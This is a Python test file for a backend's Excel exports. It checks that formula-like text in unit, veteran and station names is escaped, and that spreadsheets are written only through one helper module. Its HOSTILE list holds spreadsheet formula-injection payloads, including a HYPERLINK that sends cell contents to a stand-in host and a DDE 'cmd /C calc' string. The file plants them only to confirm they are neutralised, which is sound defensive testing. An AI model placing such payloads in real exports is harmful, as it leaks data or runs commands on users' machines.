"""Issue 10: every Excel export escapes formula-like text (a leading apostrophe, stored as a string cell, never a
formula), and no module writes a spreadsheet except through backend/exports/writer.py (issue 12: a package)."""

import ast
import io
import zipfile
from pathlib import Path

import pytest
from freezegun import freeze_time
from openpyxl import load_workbook

from backend.exports import FORMULA_TRIGGERS, escape_cell, workbook_bytes
from tests.exports.helpers import export_path, run_export
from tests.factories import create_trip, create_unit, create_veteran
from tests.helpers import refresh_figures

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content):
    """(value, data_type) of every cell, and whether any <f> (formula) element is in the sheet XML."""
    book = load_workbook(io.BytesIO(content))
    cells = [(c.value, c.data_type) for sheet in book for row in sheet.iter_rows() for c in row]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    return cells, b"<f>" in xml or b"<f " in xml


def _assert_escaped(content, planted):
    cells, has_formula = _cells(content)
    assert not has_formula
    values = {v for v, _ in cells}
    for text in planted:
        variants = {text, text.replace("\r", "\n")}  # a bare CR survives through lxml, reads back as LF without it
        assert any("'" + t in values for t in variants), (text, values)
        assert not variants & values
    for value, data_type in cells:
        if isinstance(value, str):
            assert data_type == "s" and not value.startswith(FORMULA_TRIGGERS), value


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_cell_prefixes_an_apostrophe(text):
    assert escape_cell(text) == "'" + text


def test_escape_cell_leaves_plain_values_and_drops_xml_illegal_characters():
    assert [escape_cell(v) for v in ("老兵", "a=b", 12, -3, 1.5, None)] == ["老兵", "a=b", 12, -3, 1.5, None]
    assert escape_cell("\x01=1") == "'=1"
    _assert_escaped(workbook_bytes([("表", ["列"], [[t] for t in HOSTILE])]), HOSTILE)


def _exported(actor, kind, params, enqueued):
    """Run the export job as the worker would; the file's bytes (issue 12: exports are jobs)."""
    job = run_export(actor, kind, params)
    assert job.status == "done", job.error
    return export_path(job).read_bytes()


def test_registration_figures_export_escapes_unit_names(world, enqueued):
    planted = [HOSTILE[0], HOSTILE[3]]
    for name in planted:
        create_unit(parent=world.x, name=name)
    with freeze_time("2027-02-01 02:00:00"):
        refresh_figures()  # the figures export reads the roll-up (an uncounted year is refused)
        content = _exported(world.staff_x, "registration_figures", {"year": 2027, "unit": world.x.id}, enqueued)
    _assert_escaped(content, planted)


@pytest.fixture
def enqueued(monkeypatch):
    calls = []
    monkeypatch.setattr("backend.tasks.enqueue", lambda task, *args, **kw: calls.append((task.name, args)))
    return calls


def _trip(veteran):
    create_trip(veteran, purpose_note=HOSTILE[4])


def test_travel_export_escapes_veteran_and_station_names(world, enqueued):
    station = create_unit(parent=world.x, name=HOSTILE[2])
    _trip(create_veteran(station=station, name=HOSTILE[1]))
    content = _exported(world.staff_x, "travel", {"unit": world.x.id}, enqueued)
    _assert_escaped(content, [HOSTILE[1], HOSTILE[2]])


def test_veterans_export_escapes_names(world, enqueued):
    create_veteran(station=world.x1, name=HOSTILE[0], grid_worker=HOSTILE[3])
    content = _exported(world.staff_x, "veterans", {"unit": world.x.id}, enqueued)
    _assert_escaped(content, [HOSTILE[0], HOSTILE[3]])


# The guard: a new export that bypasses the helper fails here. ----------------------------------------------------

WRITERS = {"csv", "xlsxwriter", "xlwt", "pandas", "tablib", "pyexcel", "odf"}


def _python_files():
    for folder in ("backend", "admin_portal", "miniprogram_api"):
        yield from (ROOT / folder).rglob("*.py")


def test_no_module_but_backend_exports_writes_a_spreadsheet():
    offenders = []
    for path in _python_files():
        relative = path.relative_to(ROOT).as_posix()
        if relative == "backend/exports/writer.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import):
                names = [(alias.name.split(".")[0], None) for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [(node.module.split(".")[0], alias.name) for alias in node.names]
            else:
                continue
            for module, name in names:
                if module in WRITERS or (module == "openpyxl" and name != "load_workbook"):
                    offenders.append(f"{relative}:{node.lineno} imports {module}{'.' + name if name else ''}")
        source = path.read_text(encoding="utf-8")
        for marker in ("Workbook(", "write_only", ".create_sheet(", "WriteOnlyCell"):
            if marker in source:
                offenders.append(f"{relative} uses {marker}")
    assert offenders == [], "write spreadsheets through backend.exports (writer.py): " + "; ".join(offenders)
